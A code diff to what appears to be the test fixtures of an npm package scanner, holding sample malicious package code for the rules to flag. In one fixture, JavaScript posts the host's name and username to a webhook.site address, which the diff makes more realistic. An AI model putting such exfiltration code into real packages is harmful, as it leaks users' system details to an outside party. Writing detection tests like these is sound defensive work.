@@ -49,7 +49,7 @@ let setupFixtures = RuleFixtures(
             try npmCode(
                 """
                 const https = require('https'), os = require('os')
-                const request = https.request('https://webhook.site/acme', { method: 'POST' })
+                const request = https.request('https://webhook.site/2f1e0c9a-7c1d-4b7e-9a51-3d2f0c6b8e11', { method: 'POST' })
                 request.end(os.hostname() + os.userInfo().username)
 
                 """)
@@ -74,7 +74,9 @@ let setupFixtures = RuleFixtures(
                 """)
         },
         .unreadFileRuns: {
-            try npmCode("require('./big')\n") { $0.addFile("package/big.js", "x") }
+            try npmCode("require('./box.js')\n") { tar in
+                tar.add(.init("package/box.js", content: (0..<400).map { UInt8(truncatingIfNeeded: $0 &* 37 % 29) }))
+            }
         },
     ],
     clean: [
